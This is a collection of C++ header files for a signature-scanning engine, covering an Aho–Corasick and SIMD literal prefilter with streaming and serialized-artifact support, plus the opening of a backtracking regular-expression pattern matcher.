  std::size_t n_ids_ = 0;
  std::size_t id_limit_ = 0;  // max registered id + 1 (dedup bitmap size)
  bool built_ = false;

  // Dense goto table over a reduced alphabet: only bytes that occur in
  // some literal get a column; any other byte resets to the root.
  static constexpr std::uint16_t kNoCode = 0xFFFF;
  std::array<std::uint16_t, 256> alpha_{};
  std::size_t alpha_size_ = 0;
  std::vector<std::int32_t> next_;       // n_states × alpha_size_
  std::vector<std::int32_t> out_link_;   // nearest suffix state with output
  std::vector<std::int32_t> out_begin_;  // per-state slice into out_ids_
  std::vector<std::int32_t> out_end_;
  std::vector<std::size_t> out_ids_;
};

// Lazy, invalidation-aware holder for a LiteralPrefilter owned by a
// mutable signature container (Scanner, ManualAvEngine): the owner calls
// invalidate() whenever its set changes and ensure() from const read
// paths. Double-checked locking keeps the fast path to one acquire load;
// concurrent readers are safe once built.
class LazyPrefilter {
 public:
  void invalidate() { ready_.store(false, std::memory_order_release); }

  // Returns the up-to-date automaton, rebuilding it first if stale:
  // `populate(prefilter)` must add() every (id, literal) pair; build() is
  // called here.
  template <typename Fn>
  const LiteralPrefilter& ensure(Fn&& populate) const {
    if (!ready_.load(std::memory_order_acquire)) {
      std::lock_guard<std::mutex> lock(mu_);
      if (!ready_.load(std::memory_order_relaxed)) {
        prefilter_ = LiteralPrefilter();
        populate(prefilter_);
        prefilter_.build();
        ready_.store(true, std::memory_order_release);
      }
    }
    return prefilter_;
  }

 private:
  mutable std::mutex mu_;
  mutable std::atomic<bool> ready_{false};
  mutable LiteralPrefilter prefilter_;
};

}  // namespace kizzle::match
