// Shared multi-pattern literal prefilter.
//
// A deployed signature database is scanned against every sample; running
// each pattern's own memmem pass makes whole-database scanning
// O(signatures × text). Real AV engines avoid that wall with multi-pattern
// literal matching: one streaming pass over the text determines which
// signatures could possibly match, and only those run the (expensive)
// backtracking VM.
//
// LiteralPrefilter is an Aho–Corasick automaton over the required_literal()
// of every registered pattern. Patterns whose literal occurs in the text
// become candidates; patterns with no usable literal (pure `.*`/class
// patterns, literals shorter than the usefulness threshold) go on a
// fallback list and are *always* candidates, so prefiltered scanning is
// exactly equivalent to brute force: a pattern is only skipped when its
// required literal — which every match must contain — is absent, in which
// case Pattern::search would have rejected it via its own memmem
// quick-check without running the VM (and without charging the budget).
//
// Build once, then share freely: candidates() is const and thread-safe, so
// one automaton serves any number of concurrent batch-scan workers.
//
// The automaton is also a *release artifact*: serialize() writes the
// frozen goto/fail/output tables in a versioned, endian-checked flat
// layout, and load() restores an automaton whose candidates() output is
// byte-identical to the freshly built one — deployment channels load the
// artifact instead of rebuilding per process. For data that arrives in
// pieces (a script streamed by the network, a large file read in blocks),
// StreamingMatcher walks the same automaton chunk by chunk.
#pragma once

#include <array>
#include <cstdint>
#include <iosfwd>
#include <string>
#include <string_view>
#include <vector>

namespace kizzle::match {

class StreamingMatcher;

class LiteralPrefilter {
 public:
  // Registers pattern `id` under `literal`. An empty literal means the
  // pattern has no usable required literal; it goes on the fallback list.
  // Distinct ids may share one literal; each occurrence reports all of
  // them. An id must be registered either as fallback or under literals,
  // not both (the merged candidate list would report it twice).
  void add(std::size_t id, std::string_view literal);

  // Freezes the automaton. Must be called after the last add() and before
  // the first candidates(). May be called again after further add()s;
  // rebuilding is idempotent — every derived table (including the
  // sorted/deduplicated fallback list) is regenerated from the raw
  // registrations, so an incrementally grown automaton is indistinguishable
  // from one built fresh with the same final registration set.
  void build();

  bool built() const { return built_; }

  // Total registered ids, and how many of them sit on the fallback list.
  std::size_t id_count() const { return n_ids_; }
  std::size_t fallback_count() const { return fallback_.size(); }

  // One streaming pass over `text`: every id whose literal occurs in
  // `text`, merged with the fallback ids. Sorted ascending, deduplicated —
  // callers that want brute-force-identical first-match semantics just
  // iterate in order and stop at the first hit. Thread-safe.
  std::vector<std::size_t> candidates(std::string_view text) const;

  // Same, reusing `out` to avoid per-call allocation on hot paths.
  void candidates_into(std::string_view text,
                       std::vector<std::size_t>& out) const;

  // Ids with no usable literal (always candidates), sorted ascending.
  const std::vector<std::size_t>& fallback_ids() const { return fallback_; }

  // ---------------------------- persistence ----------------------------
  //
  // Flat binary layout of the built automaton: a magic/version/endianness
  // header, the goto/fail/output tables, the raw registrations (so further
  // add()+build() after load() behaves exactly like on the original), and
  // a trailing FNV-1a checksum over the payload. Version policy: the
  // format version is bumped on ANY layout change; load() rejects unknown
  // versions, foreign endianness and corrupt/truncated payloads with
  // std::runtime_error rather than guessing. serialize() throws
  // std::logic_error if the automaton is not built.
  static constexpr std::uint32_t kFormatVersion = 1;
  void serialize(std::ostream& os) const;
  static LiteralPrefilter load(std::istream& is);

 private:
  friend class StreamingMatcher;

  struct Keyword {
    std::string literal;
    std::size_t id;
  };

  // Recomputes everything derived from the raw registrations that is not
  // part of the automaton tables proper (shared by build() and load()).
  void finalize_derived();

  std::vector<Keyword> keywords_;
  std::vector<std::size_t> fallback_raw_;  // as registered, may repeat
  std::vector<std::size_t> fallback_;      // derived: sorted, deduplicated
  std::size_t n_ids_ = 0;
  std::size_t id_limit_ = 0;  // max registered id + 1 (dedup bitmap size)
  std::size_t n_automaton_ids_ = 0;  // distinct ids reachable via literals
  bool built_ = false;

  // Dense goto table over a reduced alphabet: only bytes that occur in
  // some literal get a column; any other byte resets to the root.
  static constexpr std::uint16_t kNoCode = 0xFFFF;
  std::array<std::uint16_t, 256> alpha_{};
  std::size_t alpha_size_ = 0;
  std::vector<std::int32_t> next_;       // n_states × alpha_size_
  std::vector<std::int32_t> out_link_;   // nearest suffix state with output
  std::vector<std::int32_t> out_begin_;  // per-state slice into out_ids_
  std::vector<std::int32_t> out_end_;
  std::vector<std::size_t> out_ids_;
};

// Resumable cursor over a LiteralPrefilter for data that arrives in
// chunks. feed() carries the automaton state across chunk boundaries —
// the DFA state *is* the bounded tail buffer: it encodes exactly the
// longest literal prefix ending at the boundary (at most longest-literal−1
// trailing bytes), so a literal straddling two chunks is recognized the
// moment its last byte arrives, with no replay of previous chunks.
// finish() merges what has been seen so far with the fallback ids into the
// same sorted, deduplicated candidate set one-shot candidates() would
// return for the concatenation of all fed chunks. finish() is a snapshot:
// feeding may continue afterwards, and reset() rewinds the cursor for the
// next document.
//
// The matcher holds a pointer to the prefilter; the prefilter must stay
// alive and must not be rebuilt while any matcher streams over it. Each
// matcher is single-owner state (one per in-flight document); distinct
// matchers over one shared prefilter are safe concurrently.
class StreamingMatcher {
 public:
  explicit StreamingMatcher(const LiteralPrefilter& prefilter);

  // Consumes the next chunk of the scanned text.
  void feed(std::string_view chunk);

  // Candidate set for everything fed since construction/reset: identical
  // to prefilter.candidates(<all chunks concatenated>).
  std::vector<std::size_t> finish() const;
  void finish_into(std::vector<std::size_t>& out) const;

  // Rewinds to the start-of-text state for the next document.
  void reset();

  // Re-targets the cursor at `prefilter` — possibly a different automaton —
  // resizing the dedup bitmap and rewinding. Equivalent to constructing a
  // fresh matcher, but reuses the existing buffers: rebinding to an
  // automaton of the same id capacity performs no heap allocation. This is
  // how a recycled engine::Scratch re-arms its streaming cursor.
  void rebind(const LiteralPrefilter& prefilter);

  std::size_t bytes_fed() const { return bytes_fed_; }

 private:
  const LiteralPrefilter* pf_;
  std::int32_t state_ = 0;
  std::size_t bytes_fed_ = 0;
  std::size_t n_seen_ = 0;
  std::vector<std::uint8_t> seen_;    // per-id dedup bitmap
  std::vector<std::size_t> found_;    // automaton ids, discovery order
};

}  // namespace kizzle::match
