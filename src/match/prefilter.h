// Shared multi-pattern literal prefilter: the front of Kizzle's
// three-tier literal engine.
//
// A deployed signature database is scanned against every sample; running
// each pattern's own memmem pass makes whole-database scanning
// O(signatures × text). Real AV engines avoid that wall with multi-pattern
// literal matching: one streaming pass over the text determines which
// signatures could possibly match, and only those run full confirmation.
// End to end the engine is three tiers, each strictly cheaper per byte
// than the next:
//
//   tier 1 — SIMD first stage (match/teddy.h). Every registered literal's
//            rarest 1–4-byte window is folded into nibble-mask shuffle
//            tables; one pass of PSHUFB/AND work per 16–32 haystack bytes
//            leaves sparse candidate positions. The literal set is
//            compiled as a teddy::PlanSet: per-length-class shards (so
//            1–2-byte literals get their own K=1/K=2 shift-or shards
//            instead of disqualifying the whole set), oversized classes
//            split across shards, crowded shards widened to 16 Fat
//            buckets. There is no qualification gate — any non-empty
//            literal set compiles — so candidates_into() never falls back
//            to the automaton for real databases. The byte-at-a-time
//            Aho–Corasick walk remains as the differential baseline
//            (set_first_stage(FirstStage::kAutomaton)) and covers the two
//            residual cases: texts past Teddy's 32-bit position space and
//            streaming resume (below). Both first stages produce
//            byte-identical candidate sets — pinned by the oracles in
//            tests/teddy_test.cpp.
//   tier 2 — window confirm (teddy::Plan::confirm). Each sparse hit is
//            resolved to literal occurrences by a per-bucket window-key
//            lookup plus bounded memcmp, deduplicated per id. Patterns
//            whose literal occurred become candidates; patterns with no
//            usable literal go on a fallback list and are *always*
//            candidates, so prefiltered scanning is exactly equivalent to
//            brute force: a pattern is only skipped when its required
//            literal — which every match must contain — is absent.
//   tier 3 — tiered signature confirmation (pattern.h ConfirmTier,
//            dispatched by engine::scan). Pure-literal signatures confirm
//            with a memchr/find, literal-dominated ones with a compiled
//            anchored-memcmp + bounded-skip program, and only genuinely
//            regex-shaped patterns run the backtracking VM.
//
// This header owns tiers 1–2 and the fallback list; see
// engine/engine.h for tier 3 and for the per-scan stats that count each
// tier's work (PrefilterStats below is the tier 1–2 slice).
//
// Build once, then share freely: candidates() is const and thread-safe, so
// one prefilter serves any number of concurrent batch-scan workers.
//
// The automaton is also a *release artifact*: serialize() writes the
// frozen goto/fail/output tables in a versioned, endian-checked flat
// layout, and load() restores an automaton whose candidates() output is
// byte-identical to the freshly built one — deployment channels load the
// artifact instead of rebuilding per process. The v2 layout stores each
// table as a 64-byte-aligned, length-prefixed section, so load() over a
// borrowed mapping (support/mapped_file.h) points std::span views straight
// into the mapped bytes — zero table copies, page cache shared across
// every process on the box. The owning istream path remains for v1
// artifacts and unaligned sources. For data that arrives in pieces (a
// script streamed by the network, a large file read in blocks),
// StreamingMatcher walks the same automaton chunk by chunk.
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>
#include <iosfwd>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "match/teddy.h"

namespace kizzle::match {

class StreamingMatcher;

// Ownership-abstracted flat table: the element storage either lives in an
// owned vector (build(), v1/istream loads) or is a borrowed view into an
// external mapping (zero-copy v2 loads). Readers see one interface either
// way; hot loops hoist data() once and index raw. Copying a borrowed
// table copies the borrow — whoever owns the mapping must outlive every
// copy, which engine::Database guarantees by holding its mapping in a
// shared_ptr.
template <typename T>
class TableRef {
 public:
  TableRef() = default;
  explicit TableRef(std::vector<T> own) : own_(std::move(own)) {}

  void reset(std::vector<T> own) {
    own_ = std::move(own);
    ext_ = nullptr;
    ext_size_ = 0;
  }
  void reset_view(const T* data, std::size_t n) {
    own_.clear();
    own_.shrink_to_fit();
    ext_ = data;
    ext_size_ = n;
  }

  bool borrowed() const { return ext_ != nullptr; }
  const T* data() const { return borrowed() ? ext_ : own_.data(); }
  std::size_t size() const { return borrowed() ? ext_size_ : own_.size(); }
  bool empty() const { return size() == 0; }
  const T& operator[](std::size_t i) const { return data()[i]; }
  std::span<const T> view() const { return {data(), size()}; }
  const T* begin() const { return data(); }
  const T* end() const { return data() + size(); }

 private:
  std::vector<T> own_;
  const T* ext_ = nullptr;
  std::size_t ext_size_ = 0;
};

// First-stage selection. kAuto routes through the Teddy SIMD matcher
// whenever the registered literal set qualifies; kAutomaton forces the
// byte-at-a-time Aho–Corasick walk (the differential baseline for tests
// and benchmarks). Candidate sets are identical either way.
enum class FirstStage { kAuto, kAutomaton };

// Why a scan did not take the Teddy first stage (kNone when it did).
enum class PrefilterFallback : std::uint8_t {
  kNone,             // Teddy first stage ran (possibly minus dense shards)
  kForcedAutomaton,  // set_first_stage(FirstStage::kAutomaton) override
  kTextTooLarge,     // text exceeds Teddy's 32-bit position space
  kNoLiterals,       // nothing registered under literals (fallback ids only)
  kDenseLiterals,    // EVERY plan-set shard past kDenseRouteHitsPerByte
};

// Dense-shard routing threshold, applied PER SHARD: a shard whose expected
// first-stage candidates per scanned byte (teddy::Plan's build-time
// estimate under the byte prior) exceeds this is excised from the SIMD
// pass and its literals walk a dedicated sub-automaton instead. Past ~1
// hit per 5 bytes the SIMD pass is confirm-bound — every "sparse"
// candidate pays the window lookup the automaton folds into its single
// table walk — and the short-literal benches show the automaton winning
// outright (BM_TeddyPrefilterShortLiterals/512). Routing per shard keeps
// the selective long-literal shards on the SIMD path even when one
// crowded short-literal shard is dense: one bad length class no longer
// drags the whole database to the byte-at-a-time walk (only when every
// shard is dense does the scan take the full-automaton route,
// PrefilterFallback::kDenseLiterals). Real signature databases estimate
// orders of magnitude below this; only short-common-literal sets trip it.
inline constexpr double kDenseRouteHitsPerByte = 0.20;

// Tier 1–2 observability for one candidates_into() call (engine::Scratch
// embeds this in its ScanStats; `kizzle scan --stats` and the benches
// surface it). Counters are *overwritten* per call, not accumulated.
struct PrefilterStats {
  std::size_t first_stage_hits = 0;    // sparse candidate windows (tier 1)
  std::size_t shards_scanned = 0;      // PlanSet shards run over the text
  std::size_t literal_survivors = 0;   // distinct ids confirmed (tier 2)
  std::size_t dense_shards = 0;        // shards routed to the dense walk
  PrefilterFallback fallback = PrefilterFallback::kNone;
};

class LiteralPrefilter {
 public:
  // Registers pattern `id` under `literal`. An empty literal means the
  // pattern has no usable required literal; it goes on the fallback list.
  // Distinct ids may share one literal; each occurrence reports all of
  // them. An id must be registered either as fallback or under literals,
  // not both (the merged candidate list would report it twice).
  void add(std::size_t id, std::string_view literal);

  // Freezes the automaton. Must be called after the last add() and before
  // the first candidates(). May be called again after further add()s;
  // rebuilding is idempotent — every derived table (including the
  // sorted/deduplicated fallback list) is regenerated from the raw
  // registrations, so an incrementally grown automaton is indistinguishable
  // from one built fresh with the same final registration set.
  void build();

  bool built() const { return built_; }

  // Total registered ids, and how many of them sit on the fallback list.
  std::size_t id_count() const { return n_ids_; }
  std::size_t fallback_count() const { return fallback_.size(); }

  // One streaming pass over `text`: every id whose literal occurs in
  // `text`, merged with the fallback ids. Sorted ascending, deduplicated —
  // callers that want brute-force-identical first-match semantics just
  // iterate in order and stop at the first hit. Thread-safe.
  std::vector<std::size_t> candidates(std::string_view text) const;

  // Same, reusing `out` to avoid per-call allocation on hot paths.
  void candidates_into(std::string_view text,
                       std::vector<std::size_t>& out) const;

  // Same, additionally reusing `hits` as the Teddy first stage's candidate
  // position buffer (engine::Scratch owns one so steady-state scans stay
  // zero-alloc). Unused when the automaton walk is taken. `stats`, when
  // non-null, receives this call's tier 1–2 counters. `hints`, when
  // non-null, is resized to id_count-capacity and filled per id with the
  // start position of that id's leftmost registered-literal occurrence in
  // `text` (teddy::kNoHint where unknown: fallback ids, automaton-walk
  // scans). Tier-3 confirmation seeds its anchor search there instead of
  // re-finding the literal from the start of the text.
  void candidates_into(std::string_view text, std::vector<std::size_t>& out,
                       teddy::HitBuffer& hits, PrefilterStats* stats = nullptr,
                       std::vector<std::uint32_t>* hints = nullptr) const;

  // Ids with no usable literal (always candidates), sorted ascending.
  const std::vector<std::size_t>& fallback_ids() const { return fallback_; }

  // First-stage routing. The knob is a scan-time override (not serialized;
  // kAuto after load()) — it must not be flipped while StreamingMatchers
  // are mid-stream over this prefilter.
  void set_first_stage(FirstStage stage) { first_stage_ = stage; }
  FirstStage first_stage() const { return first_stage_; }
  // True when scans currently route through the Teddy first stage.
  bool teddy_active() const { return use_teddy(); }
  // True when EVERY compiled shard was judged too dense for the SIMD path
  // (kDenseRouteHitsPerByte) and scans route to the full automaton walk.
  bool teddy_dense() const { return teddy_dense_; }
  // Shards excised from the SIMD pass and routed to the dense-literal
  // sub-automaton (0 on all-sparse sets; == shard_count when teddy_dense).
  std::size_t dense_shard_count() const { return n_dense_shards_; }
  // Per-shard dense-route flags, indexed like teddy_plans()->shards().
  const std::vector<std::uint8_t>& dense_shard_flags() const {
    return dense_shard_;
  }
  // The compiled sharded Teddy plan set, or nullptr when no literal is
  // registered. Exposed for the differential tests and benchmarks.
  const teddy::PlanSet* teddy_plans() const {
    return teddy_.has_value() ? &*teddy_ : nullptr;
  }

  // ---------------------------- introspection ----------------------------
  //
  // Read-only views for the static analyzer (analyze/analyze.h), which
  // recompiles an artifact's embedded signatures and structurally compares
  // the result against the shipped tables (diverse-double-compile style:
  // catches compiler skew and tampering that a checksum re-hash cannot).
  // Spans alias this prefilter's storage; they are invalidated by add(),
  // build(), and destruction.
  struct TableView {
    const std::array<std::uint16_t, 256>* alpha = nullptr;
    std::size_t alpha_size = 0;
    std::span<const std::int32_t> next;
    std::span<const std::int32_t> out_link;
    std::span<const std::int32_t> out_begin;
    std::span<const std::int32_t> out_end;
    std::span<const std::size_t> out_ids;
    std::span<const std::size_t> fallback;
    std::size_t n_ids = 0;
    std::size_t id_limit = 0;
  };
  TableView tables() const;
  // The raw (literal, id) registrations, in registration order.
  struct Registration {
    std::string_view literal;
    std::size_t id = 0;
  };
  std::vector<Registration> registrations() const;

  // ---------------------------- persistence ----------------------------
  //
  // Flat binary layout of the built automaton: a magic/version/endianness
  // header, the goto/fail/output tables, the raw registrations (so further
  // add()+build() after load() behaves exactly like on the original), and
  // a trailing FNV-1a checksum over the payload. v2 (the current format)
  // is self-delimiting — a length-prefixed payload whose table sections
  // sit at 64-byte-aligned offsets relative to the blob start and whose
  // checksum is one single-pass sum over the whole payload — so the span
  // overload of load() can verify a borrowed mapping in one pass and then
  // point the automaton tables straight into it. Version policy: the
  // format version is bumped on ANY layout change; load() accepts v1
  // (owning tables) and v2, rejects unknown versions, foreign endianness
  // and corrupt/truncated payloads with kizzle::ArtifactError, and
  // declared sizes past the allocation caps with kizzle::ResourceError
  // (support/errors.h) — before allocating — rather than guessing.
  // serialize() throws std::logic_error if the automaton is not built;
  // pass version 1 to emit the legacy layout for old readers.
  static constexpr std::uint32_t kFormatVersion = 2;
  void serialize(std::ostream& os,
                 std::uint32_t version = kFormatVersion) const;
  static LiteralPrefilter load(std::istream& is);
  // Zero-copy load over `blob` (a serialized prefilter, possibly followed
  // by trailing bytes): a v2 blob whose base address is 64-byte aligned is
  // borrowed in place — the mapping must then outlive the prefilter and
  // every copy of it — while v1 blobs and unaligned bases fall back to
  // owned tables, same semantics. `consumed`, when non-null, receives the
  // number of bytes the serialized prefilter occupied.
  static LiteralPrefilter load(std::span<const std::byte> blob,
                               std::size_t* consumed = nullptr);
  // True when this prefilter's tables are borrowed views into an external
  // mapping rather than owned storage.
  bool zero_copy() const { return next_.borrowed(); }

 private:
  friend class StreamingMatcher;

  struct Keyword {
    std::string literal;
    std::size_t id;
  };

  // One compiled Aho–Corasick automaton: dense goto table over a reduced
  // alphabet, fail links folded in, flattened per-state output lists. The
  // main (serialized) tables and the derived dense-shard sub-automaton
  // share this shape, one compiler, and one walk.
  struct AcTables {
    std::array<std::uint16_t, 256> alpha{};
    std::size_t alpha_size = 0;
    std::vector<std::int32_t> next;       // n_states × alpha_size
    std::vector<std::int32_t> out_link;   // nearest suffix state with output
    std::vector<std::int32_t> out_begin;  // per-state slice into out_ids
    std::vector<std::int32_t> out_end;
    std::vector<std::size_t> out_ids;
  };

  // Compiles `keywords` (in order — table layout is order-deterministic,
  // which the artifact verifier's recompile-and-compare relies on).
  static AcTables compile_automaton(const std::vector<Keyword>& keywords);

  // Resumable walk over `t`: advances `state` across `text`, appending
  // newly seen ids to `out` (deduplicated via `seen`). Returns the updated
  // seen-count; exits early once it reaches `stop_at`. One-shot callers
  // pass a fresh state = 0; the streaming matcher carries `state` across
  // chunk boundaries.
  static std::size_t ac_walk(const AcTables& t, std::string_view text,
                             std::int32_t& state,
                             std::vector<std::uint8_t>& seen,
                             std::vector<std::size_t>& out,
                             std::size_t n_seen, std::size_t stop_at);

  // Recomputes everything derived from the raw registrations that is not
  // part of the automaton tables proper (shared by build() and load()).
  // Includes the Teddy plan and the dense-shard routing state: rebuilt
  // from the registrations at every build() AND at load() — the
  // serialized `.kpf` layout is unchanged, and built and loaded
  // prefilters route identically.
  void finalize_derived();

  // True when scans route through the Teddy first stage at all (the knob
  // allows it, a plan exists, and not every shard is dense-routed);
  // route_teddy() additionally checks the per-text size guard.
  bool use_teddy() const {
    return first_stage_ == FirstStage::kAuto && teddy_.has_value() &&
           !teddy_dense_;
  }
  // True when this text should go through the Teddy first stage.
  bool route_teddy(std::string_view text) const;

  std::vector<Keyword> keywords_;
  std::vector<std::size_t> fallback_raw_;  // as registered, may repeat
  std::vector<std::size_t> fallback_;      // derived: sorted, deduplicated
  std::optional<teddy::PlanSet> teddy_;    // derived: SIMD first stage
  // Derived dense-shard routing (per-shard kDenseRouteHitsPerByte): flags
  // indexed like the plan set's shards, their count, the sub-automaton
  // over exactly the flagged shards' literals, and whether ALL shards are
  // dense (full-automaton route; the hybrid adds nothing then).
  std::vector<std::uint8_t> dense_shard_;
  std::size_t n_dense_shards_ = 0;
  AcTables dense_;
  bool teddy_dense_ = false;
  FirstStage first_stage_ = FirstStage::kAuto;
  std::size_t n_ids_ = 0;
  std::size_t id_limit_ = 0;  // max registered id + 1 (dedup bitmap size)
  std::size_t n_automaton_ids_ = 0;  // distinct ids reachable via literals
  bool built_ = false;

  // Parses one v2 blob: header, registrations, section directory, then
  // either borrows the table sections in place (`borrow`, requires a
  // 64-byte-aligned base) or copies them into owned storage. Shared by
  // the istream and span load paths.
  static LiteralPrefilter parse_v2(std::span<const std::byte> blob,
                                   bool borrow, std::size_t* consumed);
  // Post-load structural validation + derived-state rebuild, shared by
  // every load path (v1 istream, v2 owned, v2 borrowed).
  void validate_loaded();

  // Dense goto table over a reduced alphabet: only bytes that occur in
  // some literal get a column; any other byte resets to the root. The
  // main tables are ownership-abstracted (TableRef): owned after build()
  // and v1/istream loads, borrowed views into the caller's mapping after
  // a zero-copy v2 load.
  static constexpr std::uint16_t kNoCode = 0xFFFF;
  std::array<std::uint16_t, 256> alpha_{};
  std::size_t alpha_size_ = 0;
  TableRef<std::int32_t> next_;       // n_states × alpha_size_
  TableRef<std::int32_t> out_link_;   // nearest suffix state with output
  TableRef<std::int32_t> out_begin_;  // per-state slice into out_ids_
  TableRef<std::int32_t> out_end_;
  TableRef<std::size_t> out_ids_;
};

// Resumable cursor over a LiteralPrefilter for data that arrives in
// chunks. feed() carries the first stage's state across chunk boundaries.
// On the automaton path the DFA state *is* the bounded tail buffer: it
// encodes exactly the longest literal prefix ending at the boundary (at
// most longest-literal−1 trailing bytes), so a literal straddling two
// chunks is recognized the moment its last byte arrives, with no replay of
// previous chunks. On the Teddy path the cursor keeps the last
// longest-literal−1 raw bytes instead and scans them glued to each new
// chunk — every occurrence ending inside a chunk lies inside that window,
// and re-confirmed ids deduplicate — so both paths report exactly the
// candidate set of the concatenation.
// finish() merges what has been seen so far with the fallback ids into the
// same sorted, deduplicated candidate set one-shot candidates() would
// return for the concatenation of all fed chunks. finish() is a snapshot:
// feeding may continue afterwards, and reset() rewinds the cursor for the
// next document.
//
// The matcher holds a pointer to the prefilter; the prefilter must stay
// alive and must not be rebuilt while any matcher streams over it. Each
// matcher is single-owner state (one per in-flight document); distinct
// matchers over one shared prefilter are safe concurrently.
class StreamingMatcher {
 public:
  explicit StreamingMatcher(const LiteralPrefilter& prefilter);

  // Consumes the next chunk of the scanned text.
  void feed(std::string_view chunk);

  // Candidate set for everything fed since construction/reset: identical
  // to prefilter.candidates(<all chunks concatenated>). Non-const: the
  // Teddy path batches unscanned bytes, and finish flushes the remainder.
  std::vector<std::size_t> finish();
  void finish_into(std::vector<std::size_t>& out);

  // Rewinds to the start-of-text state for the next document.
  void reset();

  // Re-targets the cursor at `prefilter` — possibly a different automaton —
  // resizing the dedup bitmap and rewinding. Equivalent to constructing a
  // fresh matcher, but reuses the existing buffers: rebinding to an
  // automaton of the same id capacity performs no heap allocation. This is
  // how a recycled engine::Scratch re-arms its streaming cursor.
  void rebind(const LiteralPrefilter& prefilter);

  std::size_t bytes_fed() const { return bytes_fed_; }

 private:
  void feed_teddy(std::string_view chunk);
  // Scans window_ (carry tail + deferred bytes), confirms the hits, and
  // trims the window back to the carry tail.
  void scan_window();

  const LiteralPrefilter* pf_;
  std::int32_t state_ = 0;
  // Cursor into the dense-shard sub-automaton (hybrid-routed prefilters):
  // dense literals stream byte-at-a-time as chunks arrive, while sparse
  // shards batch through feed_teddy — the two cursors share seen_/found_.
  std::int32_t dense_state_ = 0;
  std::size_t bytes_fed_ = 0;
  std::size_t n_seen_ = 0;
  std::vector<std::uint8_t> seen_;    // per-id dedup bitmap
  std::vector<std::size_t> found_;    // automaton ids, discovery order
  std::string window_;                // teddy: carry tail + unscanned bytes
  std::size_t pending_ = 0;           // teddy: unscanned byte count
  teddy::HitBuffer hits_;             // teddy: reusable candidate positions
};

}  // namespace kizzle::match
