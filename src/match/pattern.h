// The signature matching engine: a self-contained regular-expression
// implementation covering exactly the constructs Kizzle signatures use
// (paper Fig 10) plus enough generality for hand-written AV signatures:
//
//   literals (with \-escaping), '.', character classes [..], [^..] with
//   ranges, quantifiers * + ? {m} {m,} {m,n} (greedy), alternation |,
//   anchors ^ $, capturing groups (..), named groups (?<name>..),
//   non-capturing groups (?:..), backreferences \1..\9 and \k<name>.
//
// Matching is a backtracking VM over a compiled program. Backtracking can
// blow up on adversarial patterns, so every search carries a step budget;
// exceeding it reports budget_exceeded instead of hanging — an AV engine
// must never be DoS-able by its own signature database.
//
// Compiled patterns carry a *literal pre-filter*: the longest literal run
// that any match must contain, plus the min/max distance from the match
// start. search() then only attempts matches around memmem hits of that
// literal, which makes scanning large sample streams cheap (Kizzle
// signatures are long and highly literal, see paper §IV).
//
// Prefiltering happens at two levels:
//
//   per-pattern   search() memmem-locates this pattern's required_literal()
//                 and only runs the VM around its occurrences; absent
//                 literal → immediate no-match, no VM steps charged.
//   per-database  match/prefilter.h builds one Aho–Corasick automaton over
//                 the required_literal() of *every* deployed pattern. A
//                 single streaming pass over the text yields the candidate
//                 signature subset; only candidates run search(). Patterns
//                 with no usable literal stay on an always-check fallback
//                 list, so the prefiltered scan is exactly equivalent to
//                 running every pattern — it just skips searches that the
//                 per-pattern memmem would have rejected anyway.
//
// match::Scanner, core::SignatureBundle, core::KizzlePipeline and
// av::ManualAvEngine all scan through the database-level prefilter; the
// brute-force path survives as Scanner::scan_brute_force for differential
// tests and benchmarks.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace kizzle::match {

class PatternError : public std::runtime_error {
 public:
  PatternError(const std::string& what, std::size_t position)
      : std::runtime_error(what), position_(position) {}
  std::size_t position() const { return position_; }

 private:
  std::size_t position_;
};

struct Capture {
  std::size_t begin;
  std::size_t end;
};

struct MatchResult {
  bool matched = false;
  std::size_t begin = 0;  // valid iff matched
  std::size_t end = 0;
  std::vector<std::optional<Capture>> groups;  // index 0 unused; 1..n
  bool budget_exceeded = false;

  explicit operator bool() const { return matched; }
};

namespace detail {
struct Program;  // compiled form, private to the implementation
struct VmState;  // reusable VM working memory, private to the executor
}

// Confirmation tier, classified at compile() time. The database scan's
// candidate-confirmation path dispatches on this: only kRegex patterns pay
// for the backtracking VM.
enum class ConfirmTier : std::uint8_t {
  kLiteral,           // the whole pattern is one literal: confirm == find()
  kLiteralDominated,  // fixed-width prefix + literal + bounded suffix:
                      // confirm == anchored memcmp + bounded skip-loop
  kRegex,             // anything else: the backtracking VM runs
};

// Span-only search result for the allocation-free scan path: no capture
// group extraction, so confirming a candidate never touches the heap.
struct SpanResult {
  bool matched = false;
  bool budget_exceeded = false;
  std::size_t begin = 0;  // valid iff matched
  std::size_t end = 0;

  explicit operator bool() const { return matched; }
};

// Reusable backtracking-VM working memory (capture slots, progress marks,
// undo log, backtrack stack). One VmScratch per thread/worker: recycling it
// across search_span() calls keeps the steady-state scan path free of heap
// allocation (buffers grow to the database's high-water mark, then stop).
// engine::Scratch owns one; standalone callers may construct their own.
class VmScratch {
 public:
  VmScratch();
  ~VmScratch();
  VmScratch(VmScratch&&) noexcept;
  VmScratch& operator=(VmScratch&&) noexcept;
  VmScratch(const VmScratch&) = delete;
  VmScratch& operator=(const VmScratch&) = delete;

 private:
  friend class Pattern;
  std::unique_ptr<detail::VmState> state_;
};

class Pattern {
 public:
  // "No position" sentinel (confirm_span's anchor_hint).
  static constexpr std::size_t knpos = std::string_view::npos;

  // Compiles `source`; throws PatternError on malformed input.
  static Pattern compile(std::string_view source);

  Pattern(Pattern&&) noexcept;
  Pattern& operator=(Pattern&&) noexcept;
  // Copies share the immutable compiled program (it is never mutated after
  // compile()), so copying a Pattern is O(1) — a signature container and
  // the engine database built from it hold one program between them.
  Pattern(const Pattern&);
  Pattern& operator=(const Pattern&);
  ~Pattern();

  // Unanchored search for the leftmost match at or after `from`.
  // `budget` caps VM steps for the whole search (0 = default budget).
  MatchResult search(std::string_view text, std::size_t from = 0,
                     std::uint64_t budget = 0) const;

  // Anchored attempt: does a match start exactly at `at`?
  MatchResult match_at(std::string_view text, std::size_t at,
                       std::uint64_t budget = 0) const;

  // Allocation-free variant of search(): same semantics (literal
  // quick-reject, budget, leftmost match), but reports only the match span
  // — no capture extraction — and runs the VM out of `scratch` instead of
  // per-call buffers. This is the engine's candidate-confirmation path.
  SpanResult search_span(std::string_view text, VmScratch& scratch,
                         std::size_t from = 0, std::uint64_t budget = 0) const;

  // Which confirmation strategy confirm_span() will take for this pattern.
  ConfirmTier confirm_tier() const;

  // Tier-dispatched equivalent of search_span(): identical results for
  // every pattern, but pure-literal and literal-dominated patterns confirm
  // through their compiled confirm program (a find()/memcmp skip-loop that
